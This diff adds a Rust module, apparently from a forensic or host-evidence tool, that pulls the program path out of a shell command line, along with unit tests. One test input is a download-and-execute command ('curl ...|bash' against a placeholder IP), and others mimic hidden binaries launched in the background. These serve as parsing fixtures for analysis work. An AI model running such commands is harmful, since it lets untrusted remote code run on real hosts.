@@ -1,0 +1,42 @@
+//! Which program a command line names by its path.
+
+use crate::evidence::HostPath;
+
+/// The first word that is an absolute path and no target of a redirection.
+pub(super) fn program(command: &[u8]) -> Option<HostPath> {
+    let mut redirected = false;
+    for word in command.split(|b| b.is_ascii_whitespace() || b";|&()`\"'{},".contains(b)) {
+        if word.is_empty() {
+            continue;
+        }
+        let target = std::mem::take(&mut redirected);
+        if let Some(sign) = word.iter().rposition(|b| b"<>".contains(b)) {
+            // `2> /dev/null` names its target in the next word.
+            redirected = sign + 1 == word.len();
+            continue;
+        }
+        if !target && word.first() == Some(&b'/') && word.len() > 1 {
+            return Some(HostPath::from(word));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn programs() {
+        for (command, expected) in [
+            ("/usr/bin/x -a", Some("/usr/bin/x")),
+            ("cd / && /tmp/.x &", Some("/tmp/.x")),
+            ("echo x >/dev/null 2> /dev/null; nohup /opt/y", Some("/opt/y")),
+            ("sh -c '/opt/z'", Some("/opt/z")),
+            ("PATH=/usr/bin:/bin; x", None),
+            ("curl http://198.51.100.23/i.sh|bash", None),
+        ] {
+            assert_eq!(program(command.as_bytes()), expected.map(HostPath::from), "{command}");
+        }
+    }
+}
